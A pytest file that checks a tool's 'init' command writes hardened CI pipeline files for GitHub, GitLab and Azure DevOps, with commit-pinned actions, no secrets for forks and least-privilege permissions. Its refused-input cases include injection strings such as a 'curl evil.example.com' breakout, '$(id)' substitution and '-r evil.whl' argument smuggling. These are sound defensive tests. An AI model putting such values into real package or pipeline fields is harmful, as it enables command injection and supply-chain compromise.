"""The pipeline files that `init` writes: one file, pinned, least rights, and nothing of a stranger's in a script."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from reconciler.pipelines import PLACES
from tests.cli.conftest import Folder, folder

__all__ = ["folder"]

ACTION = f"acme/reconciler/.github/actions/reconciler@{'1f' * 20}"
PACKAGE = f"reconciler[postgres] @ git+https://git.example.com/acme/reconciler@{'1f' * 20}"
GIVEN = {"github": ("--action", ACTION), "gitlab": ("--package", PACKAGE), "azure-devops": ("--package", PACKAGE)}


def written(folder: Folder, forge: str = "github") -> dict[str, Any]:
    done = folder.run("init", f"--{forge}", *GIVEN[forge])
    assert done.code == 0, done.err
    found: dict[str, Any] = yaml.load((folder.path / PLACES[forge]).read_text(encoding="utf-8"), yaml.BaseLoader)
    return found


@pytest.mark.parametrize("forge", PLACES)
def test_one_file_is_written_and_never_a_second_time(folder: Folder, forge: str) -> None:
    written(folder, forge)
    path = folder.path / PLACES[forge]
    assert not re.search(r"ACTION|\$\[\[|parameters\.(target|package)", path.read_text(encoding="utf-8"))
    path.write_text("mine\n", encoding="utf-8")
    again = folder.run("init", f"--{forge}", *GIVEN[forge])
    assert (again.code, path.read_text(encoding="utf-8")) == (1, "mine\n")
    assert len(folder.files()) == 1


@pytest.mark.parametrize(
    "action", ["", "acme/reconciler@main", "acme/reconciler/.github/actions/reconciler@v1", "x@" + "0" * 40, "a/b@${{ github.sha }}"]
)
def test_an_action_that_is_not_named_at_a_commit_is_refused(folder: Folder, action: str) -> None:
    assert folder.run("init", "--github", "--action", action).code == 64
    assert folder.files() == {}


@pytest.mark.parametrize(
    "package",
    [
        "",
        "reconciler",  # another project has that name in the public index
        "reconciler==0.1.0",
        "git+https://git.example.com/acme/reconciler@main",
        f"git+http://git.example.com/acme/reconciler@{'1f' * 20}",
        f"git+https://git.example.com/acme/$(id)@{'1f' * 20}",
        f"git+https://git.example.com/acme/reconciler@{'1f' * 20}\n- evil",
        '"; curl evil.example.com; ".whl',
        "-r evil.whl",
        "--index-url=x.whl",
        "../../evil.whl ",
    ],
)
@pytest.mark.parametrize("forge", ["gitlab", "azure-devops"])
def test_a_package_that_is_not_named_at_a_commit_is_refused(folder: Folder, forge: str, package: str) -> None:
    assert folder.run("init", f"--{forge}", "--package", package).code == 64
    assert folder.files() == {}


def test_a_wheel_of_the_repository_will_do(folder: Folder) -> None:
    assert folder.run("init", "--gitlab", "--package", "./vendor/reconciler-0.1.0-py3-none-any.whl").code == 0


@pytest.mark.parametrize("arguments", [(), ("--github", "--gitlab"), ("--gitlab", "--action", ACTION), ("--github", "--package", PACKAGE)])
def test_one_forge_and_what_belongs_to_it_is_asked_for(folder: Folder, arguments: tuple[str, ...]) -> None:
    assert folder.run("init", *arguments).code == 64
    assert folder.files() == {}


@pytest.mark.parametrize("forge", PLACES)
def test_the_target_is_the_one_that_was_named(folder: Folder, forge: str) -> None:
    assert folder.run("init", f"--{forge}", *GIVEN[forge], "--target", "kari-as.prod").code == 0
    text = (folder.path / PLACES[forge]).read_text(encoding="utf-8")
    assert "kari-as.prod" in text
    assert not re.search(r"(TARGET: |-|\")prod\b", text)
    assert folder.run("init", f"--{forge}", *GIVEN[forge], "--target", "${{ x }}").code == 64


def test_every_action_is_pinned_and_no_expression_stands_in_a_script(folder: Folder) -> None:
    steps = [step for job in written(folder)["jobs"].values() for step in job["steps"]]
    used = {step["uses"] for step in steps if "uses" in step}
    assert ACTION in used
    assert all(re.fullmatch(r"[\w./-]+@[0-9a-f]{40}", one) for one in used)
    assert [step["run"] for step in steps if "${{" in step.get("run", "")] == []


def test_only_the_apply_may_write_to_a_tenant_and_it_is_never_cancelled(folder: Folder) -> None:
    jobs = written(folder)["jobs"]
    for name in ("apply", "recover"):
        assert jobs[name]["concurrency"] == {"group": "reconciler-apply", "cancel-in-progress": "false"}
    assert {name: job.get("environment") for name, job in jobs.items()} == {
        "check": None,
        "plan": "reconciler-plan",
        "apply": "reconciler-apply",
        "drift": "reconciler-plan",
        "recover": "reconciler-apply",
    }
    assert [name for name, job in jobs.items() if "write" in job["permissions"].values()] == ["plan", "apply"]


def test_on_github_forks_get_no_credentials_and_drift_fails_the_run(folder: Folder) -> None:
    jobs = written(folder)["jobs"]
    assert {name for name, job in jobs.items() if "secrets." in str(job)} == {"plan", "apply", "drift", "recover"}
    assert (jobs["check"]["if"], jobs["check"]["permissions"]) == ("github.event_name == 'pull_request'", {"contents": "read"})
    assert jobs["plan"]["if"].endswith("&& github.event.pull_request.head.repo.full_name == github.repository")
    assert jobs["apply"]["if"] == "github.event_name == 'push'"
    last = jobs["drift"]["steps"][-1]
    assert (last["if"], last["run"]) == ("steps.drift.outputs.pending == 'true'", "exit 2")


def test_on_gitlab_forks_get_no_credentials_and_what_writes_runs_one_at_a_time(folder: Folder) -> None:
    jobs = {name: job for name, job in written(folder, "gitlab").items() if not name.startswith(".")}
    assert {name.removesuffix("-prod"): job.get("environment", {}).get("name") for name, job in jobs.items()} == {
        "reconciler-check": None,
        "reconciler-plan": "reconciler-plan",
        "reconciler-apply": "reconciler-apply",
        "reconciler-drift": "reconciler-plan",
        "reconciler-recover": "reconciler-plan",
        "reconciler-settle": "reconciler-apply",
    }
    writing = [job for job in jobs.values() if job.get("environment", {}).get("name") == "reconciler-apply"]
    assert {(job["resource_group"], job["interruptible"]) for job in writing} == {("reconciler-prod", "false")}
    assert all("$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH" in rule["if"] for job in writing for rule in job["rules"])
    (rule,) = jobs["reconciler-plan-prod"]["rules"]
    assert rule["if"].endswith("$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID")
    assert jobs["reconciler-apply-prod"]["script"] == ["python -m reconciler.pipelines apply --require-approval"]


def test_on_azure_forks_get_no_secrets_and_what_writes_runs_one_at_a_time(folder: Folder) -> None:
    stages = {stage["stage"]: stage for stage in written(folder, "azure-devops")["stages"]}
    check, plan = stages["check"]["jobs"]
    assert not any("$(" in value for step in check["steps"] for value in step.get("env", {}).values())
    assert "variables" not in check
    assert "ne(variables['System.PullRequest.IsFork'], 'True')" in plan["condition"]
    writing = [stage for stage in stages.values() if any(job.get("environment") == "reconciler-apply" for job in stage["jobs"])]
    assert [(stage["stage"], stage["lockBehavior"]) for stage in writing] == [("apply", "sequential"), ("recover", "sequential")]
    assert "refs/heads/main" in stages["apply"]["condition"]


def test_the_checker_of_workflows_finds_nothing(folder: Folder) -> None:
    written(folder)
    command = [str(Path(sys.executable).with_name("zizmor")), "--offline", "--persona", "pedantic", str(folder.path / PLACES["github"])]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout[-2000:]
